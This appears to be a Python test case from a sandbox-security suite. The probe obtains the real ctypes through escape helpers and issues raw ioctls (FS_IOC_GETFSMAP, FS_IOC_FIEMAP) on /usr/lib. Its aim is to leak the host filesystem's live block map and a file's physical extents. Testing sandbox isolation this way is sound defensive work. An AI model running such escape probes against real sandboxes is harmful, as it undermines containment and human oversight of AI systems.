# Attack: read where the host's filesystem keeps its blocks, through a read-only folder every
# sandbox is given (/usr/lib): FS_IOC_GETFSMAP returns the whole filesystem's live map of used
# and free space (it moves as the host writes), FS_IOC_FIEMAP a file's physical extents.
from escape import os, real_import

FS_IOC_GETFSMAP, FS_IOC_FIEMAP, FIONREAD = 0xC0C0583B, 0xC020660B, 0x541B
FSMAP_HEAD, FSMAP, FIEMAP_HEAD = 64, 64, 32


def attack(folder="/usr/lib"):
    """Counts the records of ``folder``'s filesystem map and the extents of a stdlib file;
    {"getfsmap": …, "fiemap": …, "fionread": …} with "ok: <count>" or the errno name, and the
    file's "size" (what FIONREAD, an ioctl nobody minds, must still answer)."""
    file = os.__file__
    ctypes, struct = real_import("ctypes"), real_import("struct")
    libc = ctypes.CDLL(None, use_errno=True)

    def ioctl(fd, request, buffer, count_at):
        ctypes.set_errno(0)
        if libc.ioctl(fd, ctypes.c_ulong(request), buffer) == -1:
            return real_import("errno").errorcode[ctypes.get_errno()]
        return f"ok: {struct.unpack_from('<I', buffer, count_at)[0]}"

    # fmh_count 0 asks for the number of records between the low key (zeros) and the high key
    fsmap = ctypes.create_string_buffer(FSMAP_HEAD + 2 * FSMAP)
    high = FSMAP_HEAD + FSMAP
    struct.pack_into("<II4Q", fsmap, high, 0xFFFFFFFF, 0xFFFFFFFF, *[(1 << 64) - 1] * 4)
    # fm_extent_count 0 asks for the number of extents of the whole file
    fiemap = ctypes.create_string_buffer(FIEMAP_HEAD)
    struct.pack_into("<QQ", fiemap, 0, 0, (1 << 64) - 1)
    folder_fd, file_fd = os.open(folder, os.O_RDONLY | os.O_DIRECTORY), os.open(file, os.O_RDONLY)
    left = ctypes.create_string_buffer(4)
    return {"getfsmap": ioctl(folder_fd, FS_IOC_GETFSMAP, fsmap, 12),  # fmh_entries
            "fiemap": ioctl(file_fd, FS_IOC_FIEMAP, fiemap, 20),  # fm_mapped_extents
            "fionread": ioctl(file_fd, FIONREAD, left, 0), "size": os.fstat(file_fd).st_size}
